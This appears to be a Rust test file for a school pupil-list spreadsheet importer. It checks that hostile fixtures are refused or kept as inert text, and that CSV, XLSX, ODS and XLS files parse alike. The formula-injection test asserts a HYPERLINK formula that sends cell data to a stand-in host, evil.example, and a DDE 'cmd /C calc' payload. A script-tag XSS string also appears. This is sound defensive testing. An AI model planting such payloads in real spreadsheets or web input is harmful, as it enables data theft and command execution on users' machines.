//! Every fixture file read as bytes through `read_file`: hostile files give their own
//! plain-English error, real-shaped files give the right kind and a plausible grid.
//! Fixtures live in `tests/fixtures/` (a copy of the shared set; see its README).

#![allow(clippy::unwrap_used)] // tests may unwrap

use planner::core::import::error::ImportError;
use planner::core::import::raw::{Cell, FileKind, RawSheet, RawWorkbook};
use planner::core::import::read::{read_file, Limits};

fn fixture(name: &str) -> Vec<u8> {
    let local = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/");
    let shared = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/fixtures/");
    std::fs::read(format!("{local}{name}"))
        .or_else(|_| std::fs::read(format!("{shared}{name}")))
        .unwrap_or_else(|error| panic!("fixture {name}: {error}"))
}

fn read(name: &str) -> Result<RawWorkbook, ImportError> {
    read_file(&fixture(name), &Limits::default())
}

fn check_refused(name: &str, expected: ImportError) {
    assert_eq!(read(name), Err(expected), "{name}");
}

fn text(value: &str) -> Cell {
    Cell::Text(value.to_string())
}

fn non_blank_rows(sheet: &RawSheet) -> usize {
    sheet
        .rows
        .iter()
        .filter(|row| row.iter().any(|cell| !cell.is_blank()))
        .count()
}

/// The sheet whose first row starts with a UPN heading (the pupil list).
fn pupil_sheet(raw: &RawWorkbook) -> &RawSheet {
    raw.sheets
        .iter()
        .max_by_key(|sheet| non_blank_rows(sheet))
        .unwrap()
}

fn cell_texts(row: &[Cell]) -> Vec<String> {
    row.iter().map(Cell::to_text).collect()
}

/// The first row with `value` in it.
fn row_with<'a>(sheet: &'a RawSheet, value: &str) -> &'a [Cell] {
    sheet
        .rows
        .iter()
        .find(|row| row.iter().any(|cell| cell.to_text() == value))
        .unwrap_or_else(|| panic!("no row with {value:?} on {:?}", sheet.name))
}

// --- hostile files ---------------------------------------------------------------------

#[test]
fn empty_file_is_refused_as_empty() {
    check_refused("hostile_empty.xlsx", ImportError::Empty);
}

#[test]
fn pdf_with_an_xlsx_name_is_refused_as_a_pdf() {
    check_refused("hostile_pdf_renamed.xlsx", ImportError::Pdf);
}

#[test]
fn encrypted_workbook_is_refused_as_password_protected() {
    check_refused(
        "hostile_password_protected.xlsx",
        ImportError::PasswordProtected,
    );
}

#[test]
fn truncated_workbook_is_refused_as_damaged() {
    match read("hostile_truncated.xlsx") {
        Err(ImportError::Damaged { detail }) => assert!(!detail.is_empty()),
        other => panic!("expected Damaged, got {other:?}"),
    }
}

#[test]
fn huge_declared_dimension_reads_only_the_real_rows() {
    let raw = read("hostile_huge_dimension.xlsx").unwrap();
    assert_eq!(raw.kind, FileKind::Xlsx);
    assert_eq!(raw.sheets.len(), 1);
    let sheet = &raw.sheets[0];
    assert_eq!(sheet.rows.len(), 4);
    assert!(sheet.rows.iter().all(|row| row.len() == 3));
    assert_eq!(
        sheet.rows[0],
        vec![text("UPN"), text("Legal Surname"), text("Legal Forename")]
    );
    assert_eq!(sheet.rows[3][1], text("Jankauskienė"));
    assert!(raw.notices.is_empty(), "{:?}", raw.notices);
}

#[test]
fn formula_injection_cells_stay_as_text() {
    let raw = read("hostile_formula_injection.csv").unwrap();
    assert_eq!(raw.kind, FileKind::Text);
    let sheet = &raw.sheets[0];
    assert_eq!(non_blank_rows(sheet), 61);
    let row = row_with(sheet, "J373275618919");
    assert_eq!(
        row[1],
        text("=HYPERLINK(\"http://evil.example/steal?d=\"&A2&B2,\"Click for report\")")
    );
    assert_eq!(row[5], text("-2+3+cmd|' /C calc'!A0"));
}

#[test]
fn script_names_are_kept_but_nul_bytes_removed() {
    let raw = read("hostile_script_names.csv").unwrap();
    assert_eq!(raw.kind, FileKind::Text);
    let sheet = &raw.sheets[0];
    assert_eq!(non_blank_rows(sheet), 41);
    let row = row_with(sheet, "J373275618919");
    assert_eq!(row[1], text("<script>alert('xss')</script>"));
    assert!(sheet
        .rows
        .iter()
        .flatten()
        .all(|cell| !cell.to_text().contains('\0')));
    assert!(sheet
        .rows
        .iter()
        .flatten()
        .any(|cell| cell.to_text() == "NullByte"));
    assert!(sheet
        .rows
        .iter()
        .flatten()
        .any(|cell| cell.to_text().chars().count() >= 5_000));
}

// --- clean and messy files -------------------------------------------------------------

fn check_primary(name: &str, kind: FileKind) {
    let raw = read(name).unwrap();
    assert_eq!(raw.kind, kind, "{name}");
    let sheet = pupil_sheet(&raw);
    assert_eq!(non_blank_rows(sheet), 211, "{name}");
    let header = cell_texts(&sheet.rows[0]);
    assert_eq!(
        &header[..3],
        ["UPN", "Legal Surname", "Legal Forename"],
        "{name}"
    );
    assert!(raw.notices.is_empty(), "{name}: {:?}", raw.notices);
}

#[test]
fn primary_reads_alike_in_every_format() {
    check_primary("primary_210.xlsx", FileKind::Xlsx);
    check_primary("primary_210.csv", FileKind::Text);
    check_primary("primary_210.ods", FileKind::Ods);
    check_primary("primary_210.xls", FileKind::Xls);
    check_primary("primary_210_textdates.xlsx", FileKind::Xlsx);
}

/// The date-of-birth column of the primary list, as each format stores it.
fn primary_dates_of_birth(name: &str) -> Vec<Cell> {
    let raw = read(name).unwrap();
    let sheet = pupil_sheet(&raw);
    let column = sheet.rows[0]
        .iter()
        .position(|cell| cell.to_text() == "Date of Birth")
        .unwrap_or_else(|| panic!("{name}: no Date of Birth heading"));
    sheet.rows[1..]
        .iter()
        .map(|row| row.get(column).cloned().unwrap_or_default())
        .collect()
}

#[test]
fn real_dates_are_date_cells_with_the_same_serial_in_every_workbook_format() {
    let xlsx = primary_dates_of_birth("primary_210.xlsx");
    assert!(
        xlsx.iter().all(|cell| matches!(cell, Cell::Date(_))),
        "{xlsx:?}"
    );
    assert_eq!(primary_dates_of_birth("primary_210.xls"), xlsx);
    assert_eq!(primary_dates_of_birth("primary_210.ods"), xlsx);
    // The CSV holds the same dates as dd/mm/yyyy text.
    let csv = primary_dates_of_birth("primary_210.csv");
    assert!(csv
        .iter()
        .all(|cell| matches!(cell, Cell::Text(t) if t.len() == 10 && &t[2..3] == "/")));
    let textdates = primary_dates_of_birth("primary_210_textdates.xlsx");
    assert!(textdates.iter().all(|cell| matches!(cell, Cell::Text(_))));
}

#[test]
fn same_primary_rows_in_csv_and_xlsx() {
    let xlsx = read("primary_210.xlsx").unwrap();
    let csv = read("primary_210.csv").unwrap();
    let (xlsx, csv) = (pupil_sheet(&xlsx), pupil_sheet(&csv));
    let upns = |sheet: &RawSheet| -> Vec<String> {
        sheet.rows.iter().map(|row| row[0].to_text()).collect()
    };
    assert_eq!(upns(xlsx), upns(csv));
}

#[test]
fn secondary_reads_in_both_formats() {
    for (name, kind) in [
        ("secondary_1200.xlsx", FileKind::Xlsx),
        ("secondary_1200.csv", FileKind::Text),
    ] {
        let raw = read(name).unwrap();
        assert_eq!(raw.kind, kind);
        assert_eq!(non_blank_rows(pupil_sheet(&raw)), 1201, "{name}");
    }
}

#[test]
fn messy_sims_report_keeps_every_sheet_and_row_position() {
    let raw = read("messy_sims_report.xlsx").unwrap();
    assert_eq!(raw.kind, FileKind::Xlsx);
    assert_eq!(raw.sheets.len(), 2);
    let sheet = pupil_sheet(&raw);
    // Title rows, the header, 601 pupil rows (one pupil twice) and a totals row, give or
    // take blank rows, which are kept as empty rows so row numbers match Excel's.
    assert!(non_blank_rows(sheet) > 600, "{}", non_blank_rows(sheet));
    assert!(sheet.rows.iter().any(|row| row.is_empty()));
    assert!(raw.notices.is_empty(), "{:?}", raw.notices);
}

#[test]
fn cp1252_csv_decodes_pounds_and_accents() {
    let raw = read("messy_cp1252.csv").unwrap();
    assert_eq!(raw.kind, FileKind::Text);
    let sheet = &raw.sheets[0];
    assert_eq!(non_blank_rows(sheet), 301);
    let row = row_with(sheet, "G373244718196");
    assert_eq!(row[1], text("Ní Bhriain"));
    assert_eq!(row[2], text("Siobhán"));
    assert_eq!(row[15], text("£12.50"));
    assert_eq!(row[16], text("Allergy: nuts, eggs"));
    assert_eq!(row_with(sheet, "D373202518564")[2], text("Zoë"));
}

#[test]
fn utf8_bom_csv_keeps_quoted_newlines_and_accents() {
    let raw = read("messy_utf8_bom.csv").unwrap();
    assert_eq!(raw.kind, FileKind::Text);
    let sheet = &raw.sheets[0];
    assert_eq!(sheet.rows[0][0], text("UPN")); // no BOM left on the first heading
    assert_eq!(non_blank_rows(sheet), 301);
    assert_eq!(
        sheet.rows[14][16],
        text("Medical: asthma (inhaler in office)\nCheck trips")
    );
    assert_eq!(row_with(sheet, "M373379918086")[1], text("Nguyễn"));
    assert_eq!(row_with(sheet, "D373202518564")[15], text("£12.50"));
    assert!(!raw.decimal_comma);
}

#[test]
fn every_fixture_reads_or_refuses_without_panicking() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures");
    let mut seen = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() && path.extension().is_some_and(|ext| ext != "md") {
            let bytes = std::fs::read(&path).unwrap();
            let _ = read_file(&bytes, &Limits::default());
            // Prefixes of each file are handled too (a download cut short).
            for cut in (0..bytes.len()).step_by(bytes.len() / 8 + 1) {
                let _ = read_file(&bytes[..cut], &Limits::default());
            }
            seen += 1;
        }
    }
    assert_eq!(seen, 17);
}

#[test]
fn file_over_the_size_limit_is_refused_before_reading() {
    let limits = Limits {
        max_file_bytes: 1024,
        ..Limits::default()
    };
    assert_eq!(
        read_file(&fixture("primary_210.xlsx"), &limits),
        Err(ImportError::TooLarge {
            bytes: 32206,
            limit: 1024
        })
    );
}

#[test]
fn a_sheet_past_the_row_limit_is_refused_and_columns_past_theirs_are_left_out() {
    // primary_210.xlsx: a heading and 210 pupils, 211 rows.
    let limits = |max_rows| Limits {
        max_rows,
        max_columns: 2,
        ..Limits::default()
    };
    let raw = read_file(&fixture("primary_210.xlsx"), &limits(211)).unwrap();
    assert_eq!(raw.sheets[0].rows.len(), 211);
    assert!(raw.sheets[0].rows.iter().all(|row| row.len() <= 2));
    assert_eq!(raw.notices.len(), 1, "{:?}", raw.notices);
    assert!(
        raw.notices[0].contains("right of column 2"),
        "{:?}",
        raw.notices
    );
    for (file, sheet) in [
        ("primary_210.xlsx", Some(raw.sheets[0].name.clone())),
        ("primary_210.csv", None),
    ] {
        assert_eq!(
            read_file(&fixture(file), &limits(100)),
            Err(ImportError::TooManyRows {
                sheet,
                row: 101,
                limit: 100
            }),
            "{file}"
        );
    }
}
